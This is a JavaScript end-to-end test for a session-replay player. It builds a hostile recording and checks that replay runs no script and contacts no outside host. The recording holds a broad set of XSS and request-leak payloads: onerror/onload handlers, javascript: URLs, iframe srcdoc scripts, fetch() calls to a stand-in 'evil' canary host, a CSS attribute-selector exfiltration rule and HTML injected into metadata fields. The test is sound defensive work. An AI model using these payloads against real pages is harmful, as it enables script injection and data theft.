// A recording is somebody else's page: in the player it must run nothing and ask for nothing.
import assert from 'node:assert/strict'
import { mkdtemp, rm, writeFile } from 'node:fs/promises'
import { createServer } from 'node:http'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { after, before, test } from 'node:test'

import { launch } from './lib/browser.mjs'
import { Page, change, opening } from './lib/recording.mjs'
import { Server, run, until } from './lib/server.mjs'

/** Every node and attribute that ran or asked for something in some player. */
function hostile(page, evil) {
  const pwn = "parent.parent.__pwn='yes';top.__pwn='yes';fetch('" + evil + "/script')"
  const e = (tag, attributes, ...children) => page.element(tag, attributes, ...children)
  return {
    head: [
      e('script', {}, page.text(pwn)),
      e('script', { src: `${evil}/script.js` }),
      e('base', { href: evil }),
      e('meta', { 'http-equiv': 'refresh', content: `0;url=${evil}/refresh` }),
      e('link', { rel: 'stylesheet', href: `${evil}/link.css` }),
      e('link', { rel: 'prefetch', href: `${evil}/prefetch` }),
      e('link', { rel: 'preload', as: 'image', href: `${evil}/preload` }),
      e('link', { rel: 'preconnect', href: evil }),
      e('link', { rel: 'dns-prefetch', href: evil }),
      e('link', { rel: 'modulepreload', href: `${evil}/module.js` }),
      e('link', { rel: 'icon', href: `${evil}/icon.ico` }),
      e('link', { rel: 'manifest', href: `${evil}/manifest.json` }),
      e('style', {}, page.text(`@import "${evil}/import.css"; @font-face{font-family:x;src:url(${evil}/font.woff2)} body{font-family:x;background:url(${evil}/bg.png)} input[value^="a"]{background:url(${evil}/exfil)}`)),
    ],
    body: [
      e('p', {}, page.text('SAFE MARKER')),
      e('img', { src: `${evil}/img.png`, onerror: pwn }),
      e('img', { src: 'x', srcset: `${evil}/srcset.png 2x`, onerror: pwn }),
      e('svg', { onload: pwn, isSVG: true }, e('image', { href: `${evil}/svg.png`, isSVG: true })),
      e('a', { href: `javascript:${pwn}`, ping: `${evil}/ping` }, page.text('link')),
      e('iframe', { src: `${evil}/frame.html` }),
      e('iframe', { srcdoc: `<script>${pwn}</script>` }),
      e('iframe', { src: `javascript:${pwn}` }),
      e('object', { data: `${evil}/object` }),
      e('embed', { src: `${evil}/embed` }),
      e('video', { src: `${evil}/video.mp4`, poster: `${evil}/poster.png`, autoplay: '' }),
      e('audio', { src: `${evil}/audio.mp3`, autoplay: '' }),
      e('form', { action: `javascript:${pwn}` }, e('input', { type: 'image', src: `${evil}/input.png` }), e('input', { value: 'abc', autofocus: '', onfocus: pwn })),
      e('details', { open: '', ontoggle: pwn }, e('summary', {}, page.text('x'))),
      e('div', { style: `background-image:url(${evil}/style.png)` }, page.text('styled')),
      e('noscript', {}, page.text(`<img src="${evil}/noscript.png">`)),
    ],
  }
}

function events(evil) {
  const at = Date.now() - 3600_000
  const page = new Page()
  const { head, body } = hostile(page, evil)
  const doc = page.document(head, body)
  const bodyID = doc.childNodes[1].childNodes[1].id
  const later = hostile(page, `${evil}/later`)
  return [
    ...opening(at, doc, `javascript:top.__pwn='meta'`),
    change(at + 500, 0, {
      texts: [],
      removes: [],
      attributes: [{ id: bodyID, attributes: { onclick: `top.__pwn='attr'`, style: { 'background-image': `url(${evil}/attr.png)` } } }],
      adds: [...later.head, ...later.body].map((node) => ({ parentId: bodyID, nextId: null, node })),
    }),
    change(at + 700, 8, { id: page.next - 1, adds: [{ rule: `body{background:url(${evil}/rule.png)}`, index: 0 }] }),
    change(at + 800, 10, { family: 'evil', buffer: false, fontSource: `url(${evil}/fontevent.woff2)` }),
    { type: 5, timestamp: at + 900, data: { tag: 'afterimage.page', payload: { url: `${evil}/<img src=x onerror=top.__pwn=1>`, title: '<script>top.__pwn=2</script>' } } },
    { type: 5, timestamp: at + 950, data: { tag: 'afterimage.error', payload: { kind: 'error', type: '<img src=x onerror=top.__pwn=3>', message: '</script><script>top.__pwn=4</script>', stack: `at ${evil}/<b>x</b>` } } },
    { type: 6, timestamp: at + 960, data: { plugin: 'rrweb/console@1', payload: { level: 'error', payload: ['"<img src=x onerror=top.__pwn=5>"'], trace: [] } } },
    { type: 5, timestamp: at + 970, data: { tag: 'afterimage.identify', payload: { id: '<img src=x onerror=top.__pwn=6>', email: 'a@b<script>' } } },
    change(at + 5000, 1, { positions: [{ x: 5, y: 5, id: bodyID, timeOffset: 0 }] }),
  ]
}

let canary, folder, server, browser, session
const hits = []

before(async () => {
  canary = createServer((request, response) => {
    hits.push(request.url)
    response.end('')
  })
  await new Promise((done) => canary.listen(0, '127.0.0.1', done))
  folder = await mkdtemp(join(tmpdir(), 'afterimage-e2e-'))
  const file = join(folder, 'hostile.json')
  await writeFile(file, JSON.stringify(events(`http://127.0.0.1:${canary.address().port}`)))
  const imported = await run('import', '--data', join(folder, 'data'), '--json', file)
  assert.equal(imported.code, 0, imported.err)
  session = JSON.parse(imported.out).session
  server = await Server.start({ folder: join(folder, 'data') })
  browser = await launch()
})

after(async () => {
  await browser?.close()
  await server?.stop()
  canary?.close()
  await rm(folder, { recursive: true, force: true })
})

test('a hostile recording runs no script and makes no request', async () => {
  const page = await browser.newPage()
  const asked = []
  // A request that the policy stops is told too, as failed: only what was answered counts.
  page.on('requestfinished', (request) => asked.push(request.url()))
  await page.goto(await server.signInLink())
  await page.waitForURL('**/sessions**')
  const project = new URL(page.url()).pathname.split('/')[2]
  await page.goto(`${server.url}/p/${project}/sessions/${session}?t=2`)
  const shown = await until(
    'the recorded page is shown',
    async () => {
      for (const frame of page.frames()) {
        const text = await frame.evaluate(() => document.body?.innerText).catch(() => '')
        if (text?.includes('SAFE MARKER') && text.includes('styled')) return frame
      }
    },
    { withinMs: 20_000 },
  )
  // Go through it once more by hand, as a person would.
  await shown.evaluate(() => document.querySelectorAll('*').length)
  await page.keyboard.press('Space')
  await page.waitForLoadState('networkidle')
  assert.deepEqual(hits, [], 'requests reached another origin')
  assert.deepEqual(asked.filter((url) => !url.startsWith(server.url) && !/^(data|blob|about):/.test(url)), [])
  for (const frame of page.frames()) {
    assert.equal(await frame.evaluate(() => window.__pwn).catch(() => undefined), undefined, `script ran in ${frame.url()}`)
  }
})
